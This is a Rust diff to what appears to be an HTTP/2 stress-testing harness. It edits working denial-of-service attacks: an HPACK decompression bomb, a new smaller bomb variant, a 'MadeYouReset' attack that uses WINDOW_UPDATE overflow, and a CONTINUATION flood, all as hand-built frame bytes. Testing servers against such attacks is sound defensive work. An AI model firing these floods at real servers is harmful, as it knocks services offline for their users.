@@ -17,19 +17,23 @@ const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
-/// `:method GET`, `:scheme http`, `:path /` of HPACK's static table, and `:authority e`.
-const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'e'];
+/// `:method GET`, `:scheme http`, `:path /` of HPACK's static table, and `:authority` as a literal that
+/// is not put into the dynamic table.
+const GET: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'e'];
 /// The same with POST.
-const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'e'];
+const POST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'e'];
 
 /// A request that keeps the backend busy: `:path` as a literal without indexing.
-const SLOW: &[u8] = b"\x82\x86\x04\x0d/delay?ms=500\x41\x01e";
+const SLOW: &[u8] = b"\x82\x86\x04\x0d/delay?ms=500\x01\x01e";
 
 /// Frames, or pairs of them, in one write.
 const PIECE: usize = 50;
 
 /// An entry that the dynamic table of 4096 bytes has room for, its overhead of 32 included.
 const ENTRY: usize = 4000;
+
+/// So many of them are within the limit of a head, 64 KiB.
+const SMALL_BOMB: usize = 15;
 
 /// Attacks on one connection until it or the attack is over.
 pub(super) fn flood(kind: Kind, attacker: &mut Attacker<'_>, wire: &mut Wire) -> io::Result<()> {
@@ -109,7 +113,7 @@ impl Flood {
             Kind::Continuation => {
                 self.frame(HEADERS, END_STREAM, 1, GET);
             }
-            Kind::HpackBomb => {
+            Kind::HpackBomb | Kind::SmallHpackBomb => {
                 // Literal with incremental indexing (RFC 7541, section 6.2.1); the length with 7 bits first.
                 let mut block = GET.to_vec();
                 block.extend([0x40, 1, b'x', 0x7f]);
@@ -124,6 +128,12 @@ impl Flood {
 
     fn piece(&mut self) {
         match self.kind {
+            Kind::SmallHpackBomb => {
+                let block = [GET, &[0xbe; SMALL_BOMB]].concat();
+                for _ in 0..PIECE {
+                    self.request(&block, END_STREAM);
+                }
+            }
             Kind::HpackBomb => {
                 // Each byte is the whole entry.
                 let block = [GET, &[0xbe; 4000]].concat();
@@ -160,8 +170,8 @@ impl Flood {
             }
             Kind::MadeYouReset => {
                 let stream = self.request(SLOW, END_STREAM);
-                // RFC 9113, section 6.9: an increment of 0 is an error of the stream.
-                self.frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
+                // RFC 9113, section 6.9.1: a window beyond 2^31-1 is an error of the stream.
+                self.frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
             }
             // A literal of two bytes.
             Kind::Continuation => self.frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
